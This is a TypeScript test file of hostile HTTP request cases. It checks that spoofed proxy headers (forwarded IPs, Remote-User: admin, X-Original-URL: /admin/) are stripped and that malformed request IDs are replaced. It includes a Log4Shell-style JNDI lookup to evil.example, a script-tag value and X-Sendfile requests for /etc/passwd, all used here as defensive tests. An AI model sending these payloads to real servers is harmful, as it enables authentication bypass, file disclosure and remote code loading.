// What a stranger says of himself where only proxies at 192.0.2.1 are believed. Nothing of it may arrive.
import { get, type HostileCase } from "./case.ts";

const gone = (header: string): HostileCase => {
  const name = header.slice(0, header.indexOf(":"));
  return {
    name: `${header} does not arrive`,
    send: get("/{id}", header),
    answers: [200],
    seen: [
      {
        request: "GET /{id}",
        user: null,
        scheme: "http",
        headers: { [name.toLowerCase().replaceAll("_", "-")]: null },
      },
    ],
  };
};
const PEER = /^\d+\.\d+\.\d+\.\d+$/;
const replaced = (header: string, name: string, value: string | RegExp): HostileCase => ({
  name: `${header} is replaced`,
  send: get("/{id}", header),
  answers: [200],
  seen: [{ request: "GET /{id}", scheme: "http", headers: { [name]: value } }],
  logged: { "client.address": PEER },
});
/** No header of nginx's or djinit's: the application alone decides whether it believes it. */
const passed = (header: string): HostileCase => {
  const [name = "", value = ""] = header.split(": ");
  return {
    name: `${header} is a header like any other`,
    send: get("/{id}", header),
    answers: [200],
    body: "seen",
    seen: [
      {
        request: "GET /{id}",
        path: "/{id}",
        scheme: "http",
        user: null,
        headers: { [name.toLowerCase()]: value },
      },
    ],
  };
};

export const SPOOFING: readonly HostileCase[] = [
  replaced("X-Forwarded-For: 127.0.0.1", "x-forwarded-for", PEER),
  replaced("X-Forwarded-For: 192.0.2.1, 127.0.0.1", "x-forwarded-for", PEER),
  replaced("X-Forwarded-Proto: https", "x-forwarded-proto", "http"),
  replaced("X-Real-IP: 127.0.0.1", "x-real-ip", PEER),
  gone("Forwarded: for=127.0.0.1;proto=https;host=evil.example"),
  gone("X-Forwarded-Host: evil.example"),
  gone("X-Forwarded-Port: 443"),
  gone("X-Forwarded-Prefix: /evil"),
  gone("X-Forwarded-Ssl: on"),
  gone("X-Forwarded-Protocol: https"),
  gone("X-Forwarded-Scheme: https"),
  gone("X-Scheme: https"),
  gone("X-Url-Scheme: https"),
  gone("Front-End-Https: on"),
  gone("X-Forwarded-Server: evil.example"),
  gone("X-Forwarded-User: admin"),
  gone("X-Forwarded-Email: admin@example.com"),
  gone("Remote-User: admin"),
  gone("X-Remote-User: admin"),
  gone("X-Auth-Request-User: admin"),
  gone("X-SSL-Client-Verify: SUCCESS"),
  gone("X-SSL-Client-S-DN: CN=admin"),
  gone("X-Forwarded-Client-Cert: By=spiffe://a"),
  gone("Client-IP: 127.0.0.1"),
  gone("True-Client-IP: 127.0.0.1"),
  gone("CF-Connecting-IP: 127.0.0.1"),
  gone("X-Client-IP: 127.0.0.1"),
  gone("X-Cluster-Client-IP: 127.0.0.1"),
  gone("X-Original-URL: /admin/"),
  gone("X-Rewrite-URL: /admin/"),
  gone("X-Original-Host: evil.example"),
  gone("X-Script-Name: /evil"),
  gone("SCRIPT_NAME: /evil"),
  gone("Proxy: http://evil.example:3128"),
  gone("REMOTE_USER: admin"),
  gone("REMOTE_ADDR: 127.0.0.1"),
  replaced("X_Forwarded_For: 127.0.0.1", "x-forwarded-for", PEER),
  replaced("X_Forwarded_Proto: https", "x-forwarded-proto", "http"),
  replaced("X_Real_IP: 127.0.0.1", "x-real-ip", PEER),
  gone("HTTP_X_FORWARDED_PROTO: https"),
  gone("wsgi.url_scheme: https"),
  gone("X-Forwarded.Proto: https"),
  gone("X-Djinit-Client: 127.0.0.1"),
  gone("X_Djinit_Client: 127.0.0.1"),
  gone("X-Djinit.Client: 127.0.0.1"),
  passed("Script-Name: /evil"),
  passed("Path-Info: /evil"),
  passed("X-Accel-Redirect: /-/protected/paper.txt"),
  passed("X-Accel-Buffering: no"),
  passed("X-Sendfile: /etc/passwd"),
  passed("X-Lighttpd-Send-File: /etc/passwd"),
  {
    name: "two X-Forwarded-For",
    send: get("/{id}", "X-Forwarded-For: 127.0.0.1", "X-Forwarded-For: 127.0.0.2"),
    answers: [200],
    seen: [{ request: "GET /{id}", headers: { "x-forwarded-for": PEER } }],
    logged: { "client.address": PEER },
  },
  {
    name: "two X-Forwarded-Proto",
    send: get("/{id}", "X-Forwarded-Proto: https", "X-Forwarded-Proto: http"),
    answers: [200],
    seen: [{ request: "GET /{id}", scheme: "http", headers: { "x-forwarded-proto": "http" } }],
  },
  {
    name: "an id of the request that is well-formed is taken",
    send: get("/{id}", "X-Request-ID: order-1"),
    answers: [200],
    headers: { "x-request-id": "order-1" },
    seen: [{ request: "GET /{id}", headers: { "x-request-id": "order-1" } }],
    logged: { request_id: "order-1" },
  },
  ...[
    ["with quotes", '"},{"'],
    ["with a space", "a b"],
    ["with other letters", "\xc3\xa4"],
    ["that is too long", "a".repeat(129)],
    ["with markup", "<script>"],
    ["with a formula", "\x24{jndi:ldap://evil.example}"],
  ].map(
    ([name, id]): HostileCase => ({
      name: `an id of the request ${name} is replaced`,
      send: get("/{id}", `X-Request-ID: ${id}`),
      answers: [200],
      headers: { "x-request-id": /^[0-9a-f]{32}$/ },
      seen: [{ request: "GET /{id}", headers: { "x-request-id": /^[0-9a-f]{32}$/ } }],
      logged: { request_id: /^[0-9a-f]{32}$/ },
    }),
  ),
  {
    name: "two ids of the request: one, and not both",
    send: get("/{id}", "X-Request-ID: one", "X-Request-ID: two"),
    answers: [200],
    headers: { "x-request-id": /^[0-9a-f]{32}$/ },
    seen: [{ request: "GET /{id}", headers: { "x-request-id": /^[0-9a-f]{32}$/ } }],
  },
  {
    name: "a name and a password of HTTP are in the record by the name alone",
    send: get("/{id}", `Authorization: Basic ${btoa("ada:SECRET-of-ada")}`),
    answers: [200],
    seen: [{ request: "GET /{id}", user: null }],
    logged: { "user.name": "ada" },
  },
];
